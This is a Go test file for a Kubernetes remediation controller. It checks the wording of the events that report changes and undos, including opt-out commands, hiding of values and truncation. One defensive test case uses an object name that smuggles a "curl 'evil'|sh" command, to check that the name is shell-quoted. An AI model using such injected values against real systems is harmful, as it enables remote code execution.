// SPDX-License-Identifier: Apache-2.0

package remediate

import (
	"fmt"
	"strings"
	"testing"

	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"

	"evenkeel.dev/evenkeel/api/v1alpha1"
	"evenkeel.dev/evenkeel/internal/events"
	"evenkeel.dev/evenkeel/test/recorded"
)

// The team whose object was changed reads one event: it says what, why, by whom, and how to
// opt out, and shows values only to those who may read the object.
func TestAChangedObjectsEventSaysWhatWhyAndHowToOptOut(t *testing.T) {
	value := func(text string) *apiextensionsv1.JSON { return &apiextensionsv1.JSON{Raw: []byte(text)} }
	const optOut = "To opt out: kubectl annotate "
	deployment := v1alpha1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "shop", Name: "web"}
	custom := v1alpha1.ObjectReference{APIVersion: "db.example/v1", Kind: "Database", Namespace: "shop", Name: "main"}
	role := v1alpha1.ObjectReference{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "ClusterRole", Name: "all"}
	change := func(path string) v1alpha1.FieldChange {
		return v1alpha1.FieldChange{Path: path, Before: value(`"old"`), After: value(`"new"`)}
	}
	many := &v1alpha1.WriteRecord{}
	for i := range 20 {
		many.Fields = append(many.Fields, change(fmt.Sprintf("/%s/%d", strings.Repeat("p", 150), i)))
	}
	cases := map[string]struct {
		object    v1alpha1.ObjectReference
		write     *v1alpha1.WriteRecord
		want, not []string
	}{
		"a workload": {object: deployment,
			write: &v1alpha1.WriteRecord{
				Fields: []v1alpha1.FieldChange{change("/spec/a"), {Path: "/spec/b", After: value(`true`)}}},
			want: []string{`changed by policy p (plan p-1): /spec/a: "old" → "new", /spec/b: (no field) → true. `,
				"Because: No root. Runbook", "Owner of the policy: platform", "Runbook: https://run.example/p",
				optOut + "deployment.v1.apps web evenkeel.dev/remediation=paused -n shop"}},
		"an object of a kind that not every viewer may read": {object: custom,
			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/spec/password")}},
			want:  []string{"/spec/password. ", optOut + "database.v1.db.example main"},
			not:   []string{"old", "new"}},
		"a Pod template, which view doesn't read": {
			object: v1alpha1.ObjectReference{APIVersion: "v1", Kind: "PodTemplate", Namespace: "shop", Name: "t"},
			write:  &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/template/a")}},
			want:   []string{"/template/a. "}, not: []string{"old"}},
		"a name that a shell would run": {
			object: v1alpha1.ObjectReference{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role",
				Namespace: "shop",
				Name:      "x;curl 'evil'|sh\n"},
			want: []string{`role.v1.rbac.authorization.k8s.io 'x;curl '\''evil'\''|sh ' evenkeel`},
			not:  []string{"\n"}},
		"names that leave no room": {
			object: v1alpha1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "shop",
				Name: strings.Repeat("n", 253)},
			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/" + strings.Repeat("p", 900))}},
			want: []string{"…. To opt out: kubectl annotate deployment.v1.apps " + strings.Repeat("n", 253) +
				" evenkeel.dev/remediation=paused -n shop"}},
		"an object of the cluster": {object: role,
			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{change("/rules")}},
			want:  []string{"/rules. ", "all evenkeel.dev/remediation=paused"}, not: []string{"old", " -n "}},
		"more than there is room for": {object: deployment, write: many,
			want: []string{"…. To opt out", "Because: No root", "Owner of the policy: platform"}},
		"a long value": {object: deployment,
			write: &v1alpha1.WriteRecord{Fields: []v1alpha1.FieldChange{
				{Path: "/data", Before: value(`"` + strings.Repeat("x", 99) + `"`)}}},
			want: []string{"x… → (no field). "}, not: []string{strings.Repeat("x", 61)}},
		"a write that changes no field": {object: deployment, write: &v1alpha1.WriteRecord{Action: "delete"},
			want: []string{"(plan p-1): delete. "}},
		"no write": {object: deployment, want: []string{"(plan p-1): no field. "}},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			rem := &v1alpha1.Remediation{}
			rem.Name = "p-1"
			rem.Spec.Plan.Policy = v1alpha1.PlannedPolicy{
				Name: "p", Owner: "platform", RunbookURL: "https://run.example/p"}
			reason, note := targetEvent(tc.object, rem, v1alpha1.TargetIntent,
				&v1alpha1.TargetRecord{State: v1alpha1.TargetApplied, Write: tc.write},
				func() string { return "No root." })
			if reason != v1alpha1.EventRemediated || len(note) > events.MaxNote {
				t.Errorf("reason %s, %d bytes", reason, len(note))
			}
			for _, part := range tc.want {
				if !strings.Contains(note, part) {
					t.Errorf("no %q in\n%s", part, note)
				}
			}
			for _, part := range tc.not {
				if strings.Contains(note, part) {
					t.Errorf("%q in\n%s", part, note)
				}
			}
		})
	}
}

// Whoever owns an object learns of an undo as much as of the change.
func TestTheEventOfAnUndoSaysWhoseAndWhy(t *testing.T) {
	cases := map[string]struct {
		desired        v1alpha1.DesiredState
		requests       []v1alpha1.RequestRecord
		status, record string
		because        string
	}{
		"a person had the plan undone": {desired: v1alpha1.StateUndone, because: "undone by dana: INC-7",
			requests: []v1alpha1.RequestRecord{{Action: v1alpha1.ActionUndo, User: "dana", Reason: "INC-7."}}},
		"a person aborted the plan, and gave no reason": {desired: v1alpha1.StateAborted, because: "aborted by dana",
			requests: []v1alpha1.RequestRecord{{Action: v1alpha1.ActionAbort, User: "dana"}}},
		"its wave failed": {status: "canary failed: web: 2 of 3 Pods are ready.",
			because: "canary failed: web: 2 of 3 Pods are ready"},
		"the target says why": {status: "canary failed", record: "it got worse", because: "it got worse"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			rem := &v1alpha1.Remediation{}
			rem.Name, rem.Status.Message = "p-1", tc.status
			rem.Spec.DesiredState = tc.desired
			recorded.Requests(rem, tc.requests...)
			rem.Spec.Plan.Policy = v1alpha1.PlannedPolicy{Name: "p", Owner: "platform",
				RunbookURL: "https://run.example/p"}
			reason, got := targetEvent(v1alpha1.ObjectReference{}, rem, v1alpha1.TargetApplied,
				&v1alpha1.TargetRecord{State: v1alpha1.TargetReverted, Message: tc.record, Write: &v1alpha1.WriteRecord{
					Fields: []v1alpha1.FieldChange{{Path: "/spec/a"}}}}, func() string { return "" })
			want := "restored to what it was before policy p changed it (plan p-1): /spec/a. Because: " + tc.because +
				". Runbook: https://run.example/p. Owner of the policy: platform"
			if reason != v1alpha1.EventRemediationReverted || got != want {
				t.Errorf("%s: %q, want %q", reason, got, want)
			}
		})
	}
}
